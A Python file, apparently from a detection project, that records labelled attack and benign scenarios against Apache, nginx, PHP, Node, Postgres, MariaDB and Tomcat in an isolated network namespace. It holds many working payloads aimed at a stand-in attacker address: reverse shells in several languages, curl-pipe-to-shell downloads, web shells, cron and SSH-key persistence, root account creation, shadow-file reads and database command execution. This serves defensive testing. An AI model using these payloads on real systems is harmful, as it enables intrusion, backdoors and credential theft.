"""The scenarios of the project's own corpus: `unshare --mount python3 record.py OUT [NAME…]`.

Needs apache2, apache2-dev, liburing-dev, nginx with its Lua module, php-fpm, postgresql, mariadb,
tomcat10, nodejs, socat, ncat, busybox and iptables of Debian 12. See recorder.py for how it is done.
"""

import dataclasses
import os
import pathlib
import sys
import time
import traceback
import urllib.parse
from collections.abc import Callable

from recorder import (API, ATTACKER, HOST, INTERNAL, Audit, Peer, enter_network, network, copies,
                      record, sh, workshop)

MODULE = "/root/cache-stats-1.2/mod_cache_stats.so"
PLACED = "/usr/lib/apache2/modules/mod_cache_stats.so"
LOAD = """LoadModule cache_stats_module %s
<Location "/cache-stats">
 SetHandler cache-stats
</Location>
"""
NGINX_PHP = """server { listen 198.51.100.23:8081; root /var/www/html; location ~ \\.php$ {
 include snippets/fastcgi-php.conf; fastcgi_pass unix:/run/php/php8.2-fpm.sock; } }
"""
SHELL = "<?php system($_REQUEST['c']);"


@dataclasses.dataclass
class Scenario:
    name: str
    what: str
    before: Callable
    act: Callable
    malicious: bool = True
    alert: str = "yes"
    severity: str = "high"
    codes: list = dataclasses.field(default_factory=list)
    site: dict = dataclasses.field(default_factory=dict)
    logs: dict = dataclasses.field(default_factory=dict)
    texts: dict = dataclasses.field(default_factory=dict)
    hidden: tuple = ()
    linger: float = 1.0
    after: Callable = lambda stage: None


ALL = []


def scenario(name, what, before, codes=(), severity="high", **more):
    def take(act):
        ALL.append(Scenario(name, what, before, act, codes=list(codes), severity=severity, **more))
        return act
    return take


def benign(name, what, before, **more):
    more.setdefault("alert", "none")
    return scenario(name, what, before, malicious=False, severity="", **more)


# Servers

def apache(stage):
    os.makedirs("/run/apache2", exist_ok=True)
    os.makedirs("/run/lock/apache2", exist_ok=True)
    pathlib.Path("/etc/apache2/conf-enabled/zz.conf").write_text(
        "ServerName web01\nStartServers 2\nMinSpareServers 2\nMaxSpareServers 2\n")
    stage.daemon("apachectl start")


def nginx(stage):
    pathlib.Path("/etc/nginx/sites-enabled/default").unlink(missing_ok=True)
    pathlib.Path("/etc/nginx/conf.d/site.conf").write_text(NGINX_PHP)
    stage.daemon("nginx")


def php(stage):
    os.makedirs("/run/php", exist_ok=True)
    stage.daemon("php-fpm8.2 -D")
    nginx(stage)


def page(name, text, owner="root"):
    path = pathlib.Path("/var/www/html", name)
    path.write_text(text)
    sh(f"chown {owner}: {path}")


def webshell(stage):
    page("about.php", SHELL)
    php(stage)


def run_php(stage, command, pause=0.8):
    stage.mark("act")
    stage.http(f"http://{HOST}:8081/about.php?c=" + urllib.parse.quote(command), pause)


# Acts

def install(stage, source=MODULE, target=PLACED, register=True):
    stage.mark("install")
    stage.admin(f"cp {source} {target}")
    if register:
        text = LOAD % target
        stage.admin(f"printf '%s' '{text}' > /etc/apache2/mods-enabled/cache_stats.load")
    stage.daemon("apachectl graceful")
    time.sleep(1.5)


def module(stage, mode, **values):
    stage.mark("act")
    query = urllib.parse.urlencode({"m": mode, **values}, quote_via=urllib.parse.quote)
    stage.http(f"http://{HOST}/cache-stats?{query}")


def module_runs(name, what, command, codes, mode="sh", peers=((ATTACKER, 4444),), say=b"id\nexit\n",
                severity="critical"):
    @scenario(name, what, apache, ["P1+P2", "A1", *codes], severity)
    def act(stage):
        peer = Peer(*peers, say=say)
        install(stage)
        module(stage, mode, c=command)
        peer.close()


PYTHON = ("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.66\",4444));"
          "[os.dup2(s.fileno(),f) for f in (0,1,2)];os.system(\"sh\")'")
PERL = ("perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton("
        "\"203.0.113.66\")));open(STDIN,\">&S\");open(STDOUT,\">&S\");exec(\"/bin/sh -i\");'")
module_runs("m101-apache-module-python-reverse-shell", "Module runs a Python reverse shell", PYTHON,
            ["X1", "X2", "X6", "N3"])
module_runs("m102-apache-module-perl-reverse-shell", "Module runs a Perl reverse shell", PERL,
            ["X1", "X2", "X6", "N3"])
module_runs("m103-apache-module-mkfifo-netcat", "Module pipes a shell through a FIFO and netcat",
            "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|timeout 2 nc 203.0.113.66 4444 >/tmp/f",
            ["X6", "N3"])
module_runs("m104-apache-module-ncat-exec", "Module runs ncat -e", "ncat -e /bin/sh 203.0.113.66 4444",
            ["X6", "N3"])
module_runs("m105-apache-module-socat-bind-shell", "Module opens a bind shell with socat",
            "timeout 2 socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/sh", ["X6", "N5"])
module_runs("m106-apache-module-openssl-shell", "Module wires a shell to openssl s_client",
            "mkfifo /tmp/s; sh -i </tmp/s 2>&1|timeout 2 openssl s_client -quiet -connect "
            "203.0.113.66:443 >/tmp/s", ["X6", "N3"], peers=((ATTACKER, 443),))
module_runs("m107-apache-module-memfd", "Module runs a program from a memfd", "/usr/bin/id",
            ["X5"], mode="memfd")
module_runs("m108-apache-module-detached-curl-sh",
            "Module detaches by fork and setsid, then pipes a download into a shell",
            "curl -s http://203.0.113.66:8000/stage2.sh | sh", ["X1", "X4"], mode="detach",
            peers=((ATTACKER, 8000),), say=b"")


def module_connects(name, what, mode, address, port, codes, peers=(), severity="high"):
    @scenario(name, what, apache, ["P1+P2", "A1", *codes], severity)
    def act(stage):
        peer = Peer(*peers)
        install(stage)
        module(stage, mode, a=address, p=port)
        peer.close()


module_connects("m110-apache-module-connect-ipv6", "Worker connects over IPv6", "tcp",
                "2001:db8:bad::1", 443, ["N2"], (("2001:db8:bad::1", 443),))
module_connects("m111-apache-module-udp", "Worker sends a datagram without connect", "udp", ATTACKER,
                5353, ["N1"])
module_connects("m112-apache-module-fast-open", "Worker connects by TCP fast open", "fastopen",
                ATTACKER, 8443, ["N1"], ((ATTACKER, 8443),))
module_connects("m113-apache-module-io-uring", "Worker connects through an io_uring", "ring",
                ATTACKER, 8443, ["N1"], ((ATTACKER, 8443),), "medium")
module_connects("m114-apache-module-connect-refused", "Worker connects, nobody answers", "tcp",
                ATTACKER, 9001, ["N1"])


@scenario("m115-apache-module-renamed-shell", "Module runs a copy of dash by another name", apache,
          ["P1+P2", "A1", "X5"], "critical")
def _(stage):
    install(stage)
    module(stage, "sh", c="cp /bin/dash /var/tmp/kworker")
    module(stage, "sh", c="/var/tmp/kworker -c 'id; uname -a'")


@scenario("m116-apache-module-hard-link", "Module runs a hard link to a shell", apache,
          ["P1+P2", "A1", "X9", "X3"], "critical")
def _(stage):
    sh("mkdir /opt/tools; cp /usr/bin/dash /opt/tools; ln /opt/tools/dash /opt/tools/upd; "
       "printf 'id\\nuname -a\\n' > /opt/tools/run")
    install(stage)
    module(stage, "exec", c="/opt/tools/upd", x="/opt/tools/run")


@scenario("m117-apache-module-runs-as-root-at-start", "Module runs a command as root while it loads",
          apache, ["P1+P2", "A1", "X1", "X2"], "critical")
def _(stage):
    stage.mark("install")
    stage.admin(f"cp {MODULE} {PLACED}")
    stage.admin("printf '%s\\n' 'LoadModule cache_stats_module " + PLACED +
                "' > /etc/apache2/mods-enabled/cache_stats.load")
    stage.daemon("GW_AT_START='id; cat /etc/shadow > /tmp/.s' apachectl -t; apachectl stop; sleep 1; "
                 "GW_AT_START='id; cat /etc/shadow > /tmp/.s' apachectl start")
    time.sleep(1)


@scenario("m118-apache-module-useradd", "Module adds an account while it loads as root", apache,
          ["P1+P2", "A1", "D3"], "critical")
def _(stage):
    stage.mark("install")
    stage.admin(f"cp {MODULE} {PLACED}")
    stage.admin("printf '%s\\n' 'LoadModule cache_stats_module " + PLACED +
                "' > /etc/apache2/mods-enabled/cache_stats.load")
    stage.daemon("apachectl stop; sleep 1; GW_AT_START='/usr/sbin/useradd -o -u 0 -M sysadm' "
                 "apachectl start")
    time.sleep(1)


@scenario("m119-apache-module-crash", "Module crashes the worker soon after it was placed", apache,
          ["P1+P2", "A1", "A4"], "low", logs={"apache-error.log": "/var/log/apache2/error.log"})
def _(stage):
    install(stage)
    module(stage, "crash")
    time.sleep(1)


@scenario("m120-apache-module-from-tmp", "Module is registered from a world-writable folder", apache,
          ["P2", "P4", "X1"], "critical")
def _(stage):
    sh("mkdir /var/tmp/.cache")
    install(stage, target="/var/tmp/.cache/mod_cache_stats.so")
    module(stage, "sh", c="id")


@scenario("m121-apache-envvars-preload", "A library is preloaded through envvars", apache,
          ["P11", "X1"], "critical")
def _(stage):
    stage.mark("install")
    stage.admin("cp /root/cache-stats-1.2/libcache.so /usr/local/lib/cache/libcache.so")
    stage.admin("echo 'export LD_PRELOAD=/usr/local/lib/cache/libcache.so' >> /etc/apache2/envvars")
    stage.daemon("apachectl stop; sleep 1; apachectl start")
    time.sleep(1)


@scenario("m122-apache-module-removed-again", "Module is taken out again after it was used", apache,
          ["P1+P2", "A1", "X3", "T3"], "critical")
def _(stage):
    install(stage)
    module(stage, "sh", c="id")
    stage.admin("rm /etc/apache2/mods-enabled/cache_stats.load " + PLACED)
    stage.daemon("apachectl graceful")
    time.sleep(1)


@scenario("m123-opt-httpd-module", "The same in an httpd of the site's own build under /opt",
          lambda stage: opt_httpd(stage), ["P1+P2", "X3"], "critical",
          site={"server_binary_path": ["/opt/httpd/bin/httpd"]})
def _(stage):
    stage.mark("install")
    stage.admin(f"cp {MODULE} /opt/httpd/modules/mod_cache_stats.so")
    text = LOAD % "modules/mod_cache_stats.so"
    stage.admin(f"printf '%s' '{text}' >> /opt/httpd/conf/httpd.conf")
    stage.daemon("/opt/httpd/bin/httpd -d /opt/httpd -f /opt/httpd/conf/httpd.conf -k graceful")
    time.sleep(1.5)
    stage.mark("act")
    stage.http(f"http://{HOST}:8088/cache-stats?m=sh&c=id")


def opt_httpd(stage):
    sh("mkdir -p /opt/httpd/bin /opt/httpd/modules /opt/httpd/conf /opt/httpd/logs /opt/httpd/htdocs;"
       " cp /usr/sbin/apache2 /opt/httpd/bin/httpd; cp /usr/lib/apache2/modules/mod_mpm_prefork.so "
       "/usr/lib/apache2/modules/mod_authz_core.so /opt/httpd/modules/")
    pathlib.Path("/opt/httpd/conf/httpd.conf").write_text(
        "ServerName web01\nListen 198.51.100.23:8088\nUser www-data\nGroup www-data\n"
        "LoadModule mpm_prefork_module modules/mod_mpm_prefork.so\n"
        "LoadModule authz_core_module modules/mod_authz_core.so\nPidFile logs/httpd.pid\n"
        "DocumentRoot htdocs\nErrorLog logs/error.log\nStartServers 2\n")
    stage.daemon("/opt/httpd/bin/httpd -d /opt/httpd -f /opt/httpd/conf/httpd.conf -k start")


@scenario("m124-apache-module-deletes-logs", "Module deletes the access log", apache,
          ["P1+P2", "T1"], "critical")
def _(stage):
    sh("chown www-data /var/log/apache2 /var/log/apache2/*")
    install(stage)
    module(stage, "sh", c="id; rm -f /var/log/apache2/access.log")


# PHP

def shell_runs(name, what, command, codes, severity="high", peers=(), say=b"", prepare=None):
    @scenario(name, what, webshell, codes, severity)
    def act(stage):
        if prepare:
            sh(prepare)
        peer = Peer(*peers, say=say)
        run_php(stage, command)
        time.sleep(0.5)
        peer.close()


WEB = ((ATTACKER, 8000),)
shell_runs("m130-php-webshell-curl-sh", "Web shell pipes a download into a shell",
           "curl -s http://203.0.113.66:8000/stage2.sh | sh", ["X1", "X2", "X4", "N3"], "critical", WEB)
shell_runs("m131-php-webshell-crontab", "Web shell installs a crontab",
           "(echo '* * * * * curl -s http://203.0.113.66:8000/s|sh') | crontab -",
           ["X1", "D2"], "critical", prepare="mkdir -p /var/spool/cron/crontabs; "
           "chown root:crontab /var/spool/cron/crontabs; chmod 1730 /var/spool/cron/crontabs")
shell_runs("m132-php-webshell-dropped-elf", "Web shell downloads a program and runs it",
           "curl -so /tmp/.upd http://203.0.113.66:8000/x; cp /usr/bin/id /tmp/.upd; "
           "chmod 755 /tmp/.upd; /tmp/.upd", ["X4", "X5", "N3"], "critical", WEB)
shell_runs("m133-php-webshell-nohup", "Web shell leaves a program in /dev/shm running by nohup",
           "cp /usr/bin/sleep /dev/shm/kthreadd; nohup setsid /dev/shm/kthreadd 2 >/dev/null 2>&1 &",
           ["X1", "X5"])
shell_runs("m134-php-webshell-base64", "Web shell decodes a script and runs it",
           "echo aWQ7IHVuYW1lIC1hOyBjYXQgL2V0Yy9wYXNzd2Q= | base64 -d | sh", ["X1", "X2", "X3b"])
shell_runs("m135-php-webshell-find-exec", "Web shell hides its command in find",
           "find /var/www -maxdepth 0 -exec whoami \\;", ["X10", "X3"])
shell_runs("m136-php-webshell-awk", "Web shell hides its command in awk",
           "awk 'BEGIN{system(\"id\")}'", ["X10", "X3"])
shell_runs("m137-php-webshell-busybox", "Web shell uses applets of busybox",
           "busybox wget -q -O /tmp/p http://203.0.113.66:8000/x; busybox sh -c 'busybox id'",
           ["X10", "N3"], "critical", WEB)
shell_runs("m138-php-webshell-authorized-keys", "Web shell adds an SSH key",
           "mkdir -p /var/www/.ssh; echo ssh-ed25519 AAAA x >> /var/www/.ssh/authorized_keys",
           ["X1", "D2"], "critical", prepare="chown www-data /var/www")
shell_runs("m139-php-webshell-bash-tcp", "Web shell opens a reverse shell of bash",
           "bash -c 'bash -i >& /dev/tcp/203.0.113.66/443 0>&1'", ["X6", "N3"], "critical",
           ((ATTACKER, 443),), b"id\nexit\n")
shell_runs("m140-php-webshell-internal-ssh", "Web shell probes SSH on another host",
           "timeout 1 bash -c 'exec 3<>/dev/tcp/192.0.2.30/22; head -c 9 <&3'", ["N6"], "critical",
           (("192.0.2.30", 22),), b"SSH-2.0-x\n")


shell_runs("m141-php-webshell-tar-checkpoint", "Web shell hides its command in tar",
           "cd /tmp; touch x; tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=id",
           ["X10", "X3"])
shell_runs("m142-php-webshell-php-inline", "Web shell starts a reverse shell of php -r",
           "php -r '$s=fsockopen(\"203.0.113.66\",4444);proc_open(\"sh -i\",[$s,$s,$s],$p);sleep(1);'",
           ["X6", "N3"], "critical", ((ATTACKER, 4444),), b"id\nexit\n")
shell_runs("m143-php-webshell-at", "Web shell leaves a job for later", "echo id | at now + 9 hours",
           ["X1", "D2"], "critical")
shell_runs("m144-php-webshell-vim", "Web shell hides its command in env and xargs",
           "echo id | env xargs -n1 sh -c", ["X10", "X3"])


def php_page(name, what, source, codes, severity="high", peers=(), say=b"", times=1, pause=0.7,
             before=None, prepare=None, site=None):
    @scenario(name, what, before or php, codes, severity, site=site or {})
    def act(stage):
        if prepare:
            sh(prepare)
        peer = Peer(*peers, say=say)
        page("status.php", source)
        stage.mark("act")
        for _ in range(times):
            stage.http(f"http://{HOST}:8081/status.php", pause)
        peer.close()


php_page("m150-php-fsockopen-proc-open", "PHP reverse shell: fsockopen and proc_open of sh -i",
         "<?php $s=fsockopen('203.0.113.66',4444);$p=proc_open('/bin/sh -i',[0=>$s,1=>$s,2=>$s],$x);"
         "sleep(1);", ["X1", "N1"], "critical", ((ATTACKER, 4444),), b"id\nexit\n")
php_page("m151-php-writes-webshell", "PHP drops a web shell, which then runs commands",
         "<?php @mkdir('/var/www/html/uploads');file_put_contents('/var/www/html/uploads/i.php',"
         "'<?php system($_GET[\"c\"]);');"
         "echo file_get_contents('http://198.51.100.23:8081/uploads/i.php?c=id%3Buname+-a');",
         ["P5", "X1", "X3"], "critical", prepare="chown www-data /var/www/html")
php_page("m152-php-user-ini", "PHP writes a .user.ini that prepends a file",
         "<?php file_put_contents('/var/www/html/.user.ini','auto_prepend_file=/tmp/p.png');"
         "file_put_contents('/tmp/p.png','<?php system(\"id; uname -a\");');system('id');",
         ["P5", "X1", "X3"], prepare="chown www-data /var/www/html")
php_page("m153-php-beacon", "PHP calls the same place every second, no program is started",
         "<?php $s=@fsockopen('203.0.113.66',443);fwrite($s,\"x\\r\\n\\r\\n\");fgets($s);",
         ["N2", "N4"], peers=((ATTACKER, 443),), times=9, pause=0.95)
php_page("m154-php-connect-odd-port", "PHP connects to an odd port, no program is started",
         "<?php $s=@fsockopen('203.0.113.66',31337);", ["N1"], "medium", ((ATTACKER, 31337),))
php_page("m155-php-mail-preload", "PHP's mail() starts sendmail with a preloaded library",
         "<?php copy('/root-lib/libcache.so','/tmp/l.so');putenv('LD_PRELOAD=/tmp/l.so');"
         "mail('a@b','c','d');", ["X1"], "medium",
         prepare="mkdir -p /root-lib; cp /root/cache-stats-1.2/libcache.so /root-lib/")


@scenario("m160-php-extension", "A rogue library is registered as a PHP extension and fails to load",
          php, ["P1+P2", "A3"], "low", logs={"php-fpm.log": "/var/log/php8.2-fpm.log"})
def _(stage):
    folder = sh("php -r 'echo ini_get(\"extension_dir\");'").strip()
    stage.mark("install")
    stage.admin(f"cp /root/cache-stats-1.2/libcache.so {folder}/opcache_stats.so")
    stage.admin("echo 'extension=opcache_stats.so' > /etc/php/8.2/fpm/conf.d/30-opcache_stats.ini")
    stage.daemon("kill -USR2 $(cat /run/php/php8.2-fpm.pid)")
    time.sleep(1.5)


@scenario("m161-php-auto-prepend", "php.ini prepends a file that runs a command", php,
          ["P2", "X1", "X3"], "high")
def _(stage):
    page("index.php", "<?php echo 1;")
    stage.mark("install")
    stage.admin("echo '<?php if(isset($_GET[\"q\"])) system($_GET[\"q\"]);' > /var/lib/php/p.php")
    stage.admin("echo 'auto_prepend_file=/var/lib/php/p.php' > /etc/php/8.2/fpm/conf.d/99-p.ini")
    stage.daemon("kill -USR2 $(cat /run/php/php8.2-fpm.pid)")
    time.sleep(1.5)
    stage.mark("act")
    stage.http(f"http://{HOST}:8081/index.php?q=id")


@scenario("m162-php-extension-crashes", "A rogue PHP extension is registered, workers then crash", php,
          ["P1+P2", "A4"], "low", logs={"php-fpm.log": "/var/log/php8.2-fpm.log"})
def _(stage):
    folder = sh("php -r 'echo ini_get(\"extension_dir\");'").strip()
    page("down.php", "<?php posix_kill(getmypid(), 11);")
    stage.mark("install")
    stage.admin(f"cp {folder}/ctype.so {folder}/xstats.so")
    stage.admin("echo 'extension=xstats.so' > /etc/php/8.2/fpm/conf.d/30-xstats.ini")
    stage.daemon("kill -USR2 $(cat /run/php/php8.2-fpm.pid)")
    time.sleep(1.5)
    stage.http(f"http://{HOST}:8081/down.php")


# nginx

@scenario("m170-nginx-foreign-module", "A library that is no nginx module is loaded: it runs all the "
          "same", nginx, ["P1+P2", "A3"], "low", logs={"nginx-error.log": "/var/log/nginx/error.log"})
def _(stage):
    stage.mark("install")
    stage.admin("cp /root/cache-stats-1.2/libcache.so /usr/lib/nginx/modules/ngx_stats_module.so")
    stage.admin("echo 'load_module modules/ngx_stats_module.so;' > "
                "/etc/nginx/modules-enabled/60-stats.conf")
    stage.daemon("nginx -s reload || kill -HUP $(cat /run/nginx.pid)")
    time.sleep(1)


def without_lua(stage):
    sh("rm -f /etc/nginx/modules-enabled/*lua* /etc/nginx/modules-enabled/*ndk*")
    nginx(stage)


def lua(name, what, code, codes, peers=(), severity="critical"):
    @scenario(name, what, without_lua, codes, severity)
    def act(stage):
        peer = Peer(*peers)
        stage.mark("install")
        stage.admin("printf '%s' 'load_module modules/ndk_http_module.so;\nload_module modules/"
                    "ngx_http_lua_module.so;\n' > /etc/nginx/modules-enabled/50-mod-http-lua.conf")
        stage.admin("printf '%s' 'server { listen 198.51.100.23:8082; location / { "
                    f"content_by_lua_block {{ {code} }} }} }}' > /etc/nginx/conf.d/healthz.conf")
        stage.daemon("nginx -t && nginx -s reload")
        time.sleep(1)
        stage.mark("act")
        stage.http(f"http://{HOST}:8082/")
        peer.close()


lua("m171-nginx-lua-popen", "Lua in nginx runs commands by io.popen",
    'local f=io.popen("id; w"); ngx.say(f:read("*a"))', ["P2", "X1", "X3"])
lua("m172-nginx-lua-cosocket", "Lua in nginx connects out from the worker, no program is started",
    'local s=ngx.socket.tcp(); s:connect("203.0.113.66",8443); s:close(); ngx.say("ok")',
    ["P2", "N1"], ((ATTACKER, 8443),), "high")


# Node

def node(stage):
    os.makedirs("/srv/app", exist_ok=True)
    pathlib.Path("/srv/app/server.js").write_text(
        "require('http').createServer((q,r)=>{const u=new URL(q.url,'http://x');"
        "if(u.pathname=='/e'){try{r.end(String(eval(u.searchParams.get('c'))))}catch(e){r.end('no')}}"
        "else r.end('ok')}).listen(3000,'198.51.100.23');")
    stage.service("node /srv/app/server.js", uid=33)
    time.sleep(1)


def node_runs(name, what, code, codes, peers=(), say=b"", severity="high"):
    @scenario(name, what, node, codes, severity, linger=1.5)
    def act(stage):
        peer = Peer(*peers, say=say)
        stage.mark("act")
        stage.http(f"http://{HOST}:3000/e?c=" + urllib.parse.quote(code))
        time.sleep(0.5)
        peer.close()


node_runs("m180-node-child-process", "Node runs commands through child_process",
          "require('child_process').execSync('id; uname -a; cat /etc/passwd')",
          ["X1", "X2", "X3b"])
node_runs("m181-node-reverse-shell", "Node pipes sh to a socket of its own",
          "var s=require('net').connect(4444,'203.0.113.66',()=>{var p=require('child_process')"
          ".spawn('/bin/sh',[]);s.pipe(p.stdin);p.stdout.pipe(s)})", ["X1", "N1"],
          ((ATTACKER, 4444),), b"id\nuname -a\n", "critical")


# Databases

def postgres(stage):
    os.makedirs("/run/postgresql", exist_ok=True)
    sh("chown postgres: /run/postgresql; rm -rf /srv/pg; mkdir /srv/pg; chown postgres: /srv/pg; "
       "su postgres -c '/usr/lib/postgresql/15/bin/initdb -D /srv/pg -A trust >/dev/null'; "
       "touch /var/log/postgres.log; chown postgres /var/log/postgres.log")
    stage.service("/usr/lib/postgresql/15/bin/postgres -D /srv/pg 2>>/var/log/postgres.log",
                  uid=int(sh("id -u postgres")))
    time.sleep(1.5)


def sql(stage, text):
    stage.timeline.append((time.time(), "SQL " + text))
    sh(f"su postgres -c \"psql -q -c \\\"{text}\\\"\"", check=False)


@scenario("m190-postgres-copy-program", "COPY … FROM PROGRAM runs commands", postgres,
          ["X1", "X2", "X3", "N3"], "critical")
def _(stage):
    peer = Peer(*WEB)
    stage.mark("act")
    sql(stage, "CREATE TABLE t(x text); COPY t FROM PROGRAM 'id; curl -s "
        "http://203.0.113.66:8000/x | sh'")
    time.sleep(0.7)
    peer.close()


@scenario("m191-postgres-archive-command", "archive_command is set to a download", postgres,
          ["X1", "X4", "N3"], "critical", linger=2.0)
def _(stage):
    peer = Peer(*WEB)
    stage.mark("act")
    sql(stage, "ALTER SYSTEM SET archive_mode = on")
    sql(stage, "ALTER SYSTEM SET archive_command = 'curl -s http://203.0.113.66:8000/x | sh'")
    sh("su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -D /srv/pg stop -m fast'", check=False)
    stage.service("/usr/lib/postgresql/15/bin/postgres -D /srv/pg", uid=int(sh("id -u postgres")))
    time.sleep(1.5)
    sql(stage, "SELECT pg_switch_wal()")
    time.sleep(2)
    peer.close()


@scenario("m193-postgres-c-function", "A C function from a library in /tmp runs commands",
          lambda stage: postgres(stage), ["P8", "X1", "X3"], "critical",
          logs={"postgresql.log": "/var/log/postgres.log"})
def _(stage):
    stage.mark("act")
    sql(stage, "CREATE FUNCTION gw(text) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' "
        "LANGUAGE C STRICT")
    sql(stage, "COPY (SELECT 1) TO PROGRAM 'id'")
    time.sleep(0.5)


def mariadb(stage):
    os.makedirs("/run/mysqld", exist_ok=True)
    sh("chown mysql: /run/mysqld; rm -rf /srv/my; mkdir /srv/my; chown mysql: /srv/my; "
       "mariadb-install-db --user=mysql --datadir=/srv/my >/dev/null")
    stage.service("/usr/sbin/mariadbd --datadir=/srv/my --socket=/run/mysqld/mysqld.sock",
                  uid=int(sh("id -u mysql")))
    time.sleep(3)


@scenario("m192-mariadb-udf", "A UDF library is placed in the plugin folder and runs commands",
          mariadb, ["P8", "X1", "X3"], "critical")
def _(stage):
    folder = sh("mariadb -e 'SELECT @@plugin_dir' -N").strip()
    stage.mark("install")
    stage.admin(f"cp /root/cache-stats-1.2/gwudf.so {folder}gwudf.so")
    stage.mark("act")
    sh("mariadb -e \"CREATE FUNCTION gw_exec RETURNS INTEGER SONAME 'gwudf.so'; "
       "SELECT gw_exec('id; uname -a')\"", check=False)
    time.sleep(1)


# Tomcat

def tomcat(stage):
    sh("mkdir -p /var/lib/tomcat10/webapps/ROOT /var/cache/tomcat10 /var/log/tomcat10; "
       "chown -R tomcat: /var/lib/tomcat10/webapps /var/cache/tomcat10 /var/log/tomcat10", check=False)
    pathlib.Path("/var/lib/tomcat10/webapps/ROOT/x.jsp").write_text(
        '<%@page import="java.io.*,java.net.*"%><% if (request.getParameter("w")!=null) {'
        'FileWriter f=new FileWriter("/var/lib/tomcat10/webapps/ROOT/h.jsp");'
        'f.write(request.getParameter("w"));f.close();}'
        'if (request.getParameter("c")!=null) Runtime.getRuntime().exec(new String[]{"/bin/sh","-c",'
        'request.getParameter("c")}).waitFor();'
        'if (request.getParameter("a")!=null) new Socket(request.getParameter("a"),8443).close(); %>ok')
    stage.service(
        "/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xmx128m -Dcatalina.home=/usr/share/tomcat10 "
        "-Dcatalina.base=/var/lib/tomcat10 -Djava.io.tmpdir=/tmp -classpath "
        "/usr/share/tomcat10/bin/bootstrap.jar:/usr/share/tomcat10/bin/tomcat-juli.jar "
        "org.apache.catalina.startup.Bootstrap start", uid=int(sh("id -u tomcat")))
    for _ in range(30):
        time.sleep(2)
        if sh(f"curl -s -m 20 http://{HOST}:8080/x.jsp", check=False).strip() == "ok":
            break


def jsp(stage, **values):
    stage.mark("act")
    stage.http(f"http://{HOST}:8080/x.jsp?" + urllib.parse.urlencode(values), 1.2)


@scenario("m195-tomcat-jsp-dropped", "Java writes a JSP into the web root, then runs commands", tomcat,
          ["P5", "X1", "X3"], "critical")
def _(stage):
    jsp(stage, w="<% out.print(1); %>")
    jsp(stage, c="id; uname -a")


@scenario("m196-tomcat-socket-only", "Java connects out, no program is started", tomcat, ["N1"],
          "medium")
def _(stage):
    peer = Peer((ATTACKER, 8443))
    jsp(stage, a=ATTACKER)
    peer.close()


# Benign

@benign("b101-nginx-logrotate", "logrotate rotates nginx's logs and sends USR1", php)
def _(stage):
    stage.http(f"http://{HOST}:8081/")
    stage.daemon("logrotate -f /etc/logrotate.d/nginx; kill -USR1 $(cat /run/nginx.pid)")


@benign("b102-dpkg-module-package", "dpkg unpacks a package with an Apache module; apache is restarted",
        apache)
def _(stage):
    stage.daemon("dpkg -i /root/libapache2-mod-demo.deb; a2enmod demo; apachectl graceful")
    time.sleep(1.5)
    stage.http(f"http://{HOST}/")


def by_php(name, what, source, peers=(), site=None, times=1, prepare=None, pause=0.7):
    @benign(name, what, php, site=site or {})
    def act(stage):
        if prepare:
            sh(prepare)
        peer = Peer(*peers)
        page("app.php", source)
        for _ in range(times):
            stage.http(f"http://{HOST}:8081/app.php", pause)
        peer.close()


by_php("b103-php-composer", "PHP runs git and version probes by proc_open",
       "<?php exec('git --version');exec('git rev-parse HEAD');exec('php -v');"
       "exec('lsb_release -a');exec('locale -a');exec('ps -ef|grep php');")
by_php("b104-php-cms-update", "A CMS fetches an update from an allowed place and writes PHP files",
       "<?php @file_get_contents('http://203.0.113.80/u.zip');"
       "for($i=0;$i<12;$i++) file_put_contents(\"/var/www/html/inc$i.php\",'<?php return 1;');",
       ((API, 80),), prepare="chown www-data /var/www/html")
by_php("b105-php-media", "PHP converts pictures, films and pages",
       "<?php exec('convert in.png -resize 64x64 out.png');exec('/usr/bin/ffprobe -v error in.mp4 2>&1');"
       "exec('gs --version');exec('/usr/bin/exiftool in.jpg');exec('pdftotext in.pdf -');")
by_php("b106-php-database", "PHP talks to the database and the cache inside",
       "<?php @fsockopen('192.0.2.10',3306);@fsockopen('192.0.2.10',6379);@fsockopen('192.0.2.10',5432);"
       "@gethostbyname('db.example.net');", ((INTERNAL, 3306), (INTERNAL, 6379)), times=4)
by_php("b107-php-polls-allowed-api", "PHP asks an allowed interface once a second",
       "<?php @file_get_contents('https://203.0.113.80/');@fsockopen('203.0.113.80',443);",
       ((API, 443),), times=8, pause=0.9)
by_php("b108-php-loopback-cron", "wp-cron: PHP asks its own site",
       "<?php @file_get_contents('http://198.51.100.23:8081/x.html');", times=3)


@benign("b109-nginx-reverse-proxy", "nginx passes requests to an upstream inside", nginx)
def _(stage):
    peer = Peer((INTERNAL, 8080))
    stage.admin("printf '%s' 'server { listen 198.51.100.23:8083; location / { proxy_pass "
                "http://192.0.2.10:8080; } }' > /etc/nginx/conf.d/proxy.conf")
    stage.admin("nginx -t && nginx -s reload")
    time.sleep(1)
    for _ in range(8):
        stage.http(f"http://{HOST}:8083/", 0.3)
    peer.close()


@benign("b110-apache-a2enmod", "An administrator switches on modules that packages own", apache)
def _(stage):
    stage.admin("a2enmod rewrite headers proxy proxy_http expires")
    stage.admin("apachectl configtest && apachectl graceful")
    time.sleep(1)
    stage.http(f"http://{HOST}/")


@benign("b111-cron-as-www-data", "cron runs a job of the server's user", php)
def _(stage):
    page("cron.php", "<?php echo 1;")
    stage.daemon("exec php /var/www/html/cron.php", uid=33)
    stage.daemon("php -r 'echo phpversion();' && id -u && find /var/www/html -name '*.tmp' -delete "
                 "&& tar czf /tmp/b.tgz /var/www/html", uid=33)


@benign("b112-administrator-sudo", "An administrator looks around as the server's user", php)
def _(stage):
    stage.admin("su -s /bin/sh www-data -c 'id; uname -a; ls -la /var/www; php -m; whoami'")


@benign("b113-restarts", "Servers are reloaded and restarted over and over", apache,
        logs={"apache-error.log": "/var/log/apache2/error.log"})
def _(stage):
    for _ in range(3):
        stage.daemon("apachectl graceful")
        time.sleep(0.7)
    stage.daemon("apachectl stop; sleep 1; apachectl start")
    time.sleep(1)


@benign("b114-certificate-renewed", "A certificate is renewed from a timer, nginx is reloaded", nginx)
def _(stage):
    peer = Peer((API, 443))
